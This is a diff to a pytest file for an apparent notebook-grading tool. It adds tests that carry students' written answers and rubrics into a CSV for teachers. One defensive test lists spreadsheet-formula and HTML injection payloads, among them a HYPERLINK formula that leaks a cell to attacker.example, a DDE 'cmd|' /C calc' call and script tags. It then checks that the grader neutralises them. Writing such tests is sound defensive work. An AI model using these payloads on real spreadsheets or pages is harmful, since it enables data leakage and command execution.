@@ -16,7 +16,7 @@ import pytest
 import torch
 
 from book import chapters, classroom
-from book.classroom import sandbox
+from book.classroom import grading, sandbox
 from book.face import checks
 
 pytestmark = pytest.mark.slow
@@ -102,6 +102,8 @@ def test_full_partial_blank_scores(graded):
     rows, csv_path = graded
     totals, scores, details = {}, {}, {}
     for r in rows:
+        if r["status"] == grading.WRITTEN:   # tests below
+            continue
         assert r["status"] == "graded", r
         assert r["isolation"] == sandbox.isolation(), r
         stem, *language, kind = r["submission"].removesuffix(".ipynb").split("__")
@@ -237,9 +239,10 @@ def test_without_bubblewrap_grading_stops_unless_the_teacher_says_so(generated, 
         classroom.grade(folder, None, progress=False)
     with pytest.warns(sandbox.UnsandboxedWarning, match="with YOUR permissions"):
         rows = classroom.grade(folder, None, progress=False, unsandboxed=True)
-    assert [r["status"] for r in rows] == ["graded"] * 3
-    assert [r["isolation"] for r in rows] == ["unsandboxed"] * 3
-    assert sum(r["score"] for r in rows) == sum(r["possible"] for r in rows) == 30
+    assert [r["status"] for r in rows] == ["graded"] * 3 + [grading.WRITTEN]
+    assert [r["isolation"] for r in rows] == ["unsandboxed"] * 4
+    graded = [r for r in rows if r["status"] == "graded"]
+    assert sum(r["score"] for r in graded) == sum(r["possible"] for r in graded) == 30
 
 
 def test_make_fails_closed_without_bubblewrap_and_passes_unsandboxed_on(tmp_path,
@@ -284,3 +287,111 @@ def test_grading_in_parallel_gives_the_same_csv(generated, tmp_path):
         texts[jobs] = [{k: v for k, v in r.items() if k != "seconds"} for r in rows]
     assert texts[1] == texts[2]
     assert [r["submission"] for r in texts[2]] == sorted(r["submission"] for r in texts[2])
+
+
+# ---- the written item: the student's text in the CSV for the teacher, next to the rubric ------
+
+CJK = re.compile(r"[\u4e00-\u9fff]")
+
+
+def model_answer(solutions) -> str:
+    """The instructor's answer to the written item, as the solutions notebook holds it."""
+    nb = nbformat.read(solutions, as_version=4)
+    [cell] = [c for c in nb.cells if "otter_assign_solution_cell" in c.metadata.get("tags", [])
+              and c.cell_type == "markdown"]
+    return cell.source.strip()
+
+
+def test_every_assignment_has_a_written_item_whose_answer_and_rubric_reach_the_csv(generated,
+                                                                                 graded):
+    """One written row per submission, in both languages: the full and partial submissions'
+    model answer (as typed, made one line), the blank one's empty answer (the otter placeholder
+    is no answer), the rubric line in the notebook's language; the grader scores none of it."""
+    rows, csv_path = graded
+    with csv_path.open(encoding="utf-8", newline="") as f:
+        reader = csv.DictReader(f)
+        assert reader.fieldnames[-2:] == ["answer", "rubric"]
+        from_file = {(r["submission"], r["question"]): r for r in reader}
+    seen = set()
+    for r in rows:
+        stem, *language, kind = r["submission"].removesuffix(".ipynb").split("__")
+        language = language[0] if language else "en"
+        if r["status"] != grading.WRITTEN:
+            assert not r.get("answer") and not r.get("rubric"), r
+            continue
+        seen.add((stem, language, kind))
+        assignment = next(a for a in classroom.ASSIGNMENTS.values() if a.stem == stem)
+        assert r["question"] == assignment.written.question
+        assert r["score"] == "" and r["possible"] == "", r
+        assert r["rubric"] == assignment.written.rubric.to(language)
+        assert bool(CJK.search(r["rubric"])) == (language == "zh"), r
+        paths = generated[stem] if language == "en" else generated[stem]["zh"]
+        if kind == "blank":
+            assert r["answer"] == "", r
+        else:
+            expected = grading.answer_text(model_answer(paths["solutions"]), language)
+            assert r["answer"] == expected and len(expected) > 80, r
+            assert bool(CJK.search(r["answer"])) == (language == "zh"), r
+        assert from_file[(r["submission"], r["question"])]["answer"] == r["answer"]
+    assert seen == {(s, lang, k) for s in STEMS for lang in ("en", "zh")
+                    for k in ("full", "partial", "blank")}
+    for language in ("en", "zh"):   # the student's placeholder is in the notebook's language
+        paths = generated["01_attention_numpy"]
+        paths = paths if language == "en" else paths["zh"]
+        nb = nbformat.read(paths["student"], as_version=4)
+        answer_cells = [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])
+                        and c.cell_type == "markdown"]
+        assert [c.source for c in answer_cells] == [
+            classroom.feedback.Text("classroom.answer_placeholder").to(language)]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")\nsecond line\r\nthird\rfourth',
+    "+cmd|' /C calc'!A0\t<script>alert('x')</script><img src=x onerror=alert(1)>",
+    '@SUM(1+1)*cmd|"/C calc"!A0, "quoted", commas; \u202eevil\x00\x07' + "x" * 1_000_000,
+]
+
+
+@pytest.mark.parametrize("language", ["en", "zh"])
+def test_a_hostile_written_answer_stays_in_its_own_cell_and_is_neutralised(generated, tmp_path,
+                                                                          language):
+    """Formulas, line breaks, HTML, control characters and a megabyte of text in the answer
+    cell: each answer stays in its one cell of its one row (the CSV has exactly one line per
+    row), starts with a quote where a spreadsheet would run it as a formula, is cut to
+    MAX_ANSWER_CHARS (saying how much more there was), and the scores are the full solution's."""
+    paths = generated["01_attention_numpy"]
+    paths = paths if language == "en" else paths["zh"]
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    shutil.copy2(paths["solutions"], subs / "honest.ipynb")
+    for index, text in enumerate(HOSTILE):
+        nb = nbformat.read(paths["solutions"], as_version=4)
+        [cell] = [c for c in nb.cells if "otter_assign_solution_cell" in c.metadata.get("tags", [])
+                  and c.cell_type == "markdown"]
+        cell.source = text
+        nbformat.write(nb, subs / f"hostile{index}.ipynb")
+    csv_path = tmp_path / "grades.csv"
+    rows = classroom.grade(subs, csv_path, seed=3, progress=False, jobs=2, **OWN_NOTEBOOKS)
+    raw = csv_path.read_text(encoding="utf-8")
+    assert len(raw.splitlines()) == 1 + len(rows) == 1 + 4 * 4, raw[:2000]
+    with csv_path.open(encoding="utf-8", newline="") as f:
+        written = {r["submission"]: r for r in csv.DictReader(f)
+                   if r["status"] == grading.WRITTEN}
+    scores = {(r["submission"], r["question"]): r["score"] for r in rows
+              if r["status"] == "graded"}
+    for index in range(len(HOSTILE)):
+        for question in ("q1_softmax", "q2_attention", "q3_causal_mask"):
+            assert scores[(f"hostile{index}.ipynb", question)] == scores[("honest.ipynb",
+                                                                           question)]
+    first, second, third = (written[f"hostile{i}.ipynb"]["answer"] for i in range(3))
+    assert first.startswith("'=HYPERLINK(") and first.count(grading.LINE_BREAK.strip()) == 3
+    assert second.startswith("'+cmd|") and "<script>alert('x')</script>" in second
+    assert "\t" not in second
+    assert third.startswith("'@SUM(")
+    assert "\u202e" not in third and "\x00" not in third and "\x07" not in third
+    cut = classroom.feedback.Text("classroom.answer_cut", more=0).to(language).split("0")[0]
+    assert cut in third and str(len(HOSTILE[2]) - 3 - grading.MAX_ANSWER_CHARS) in third
+    assert len(third) < grading.MAX_ANSWER_CHARS + 80
+    for answer in (first, second, third):
+        assert "\n" not in answer and "\r" not in answer
+    assert written["honest.ipynb"]["answer"][:1] not in "=+-@'"
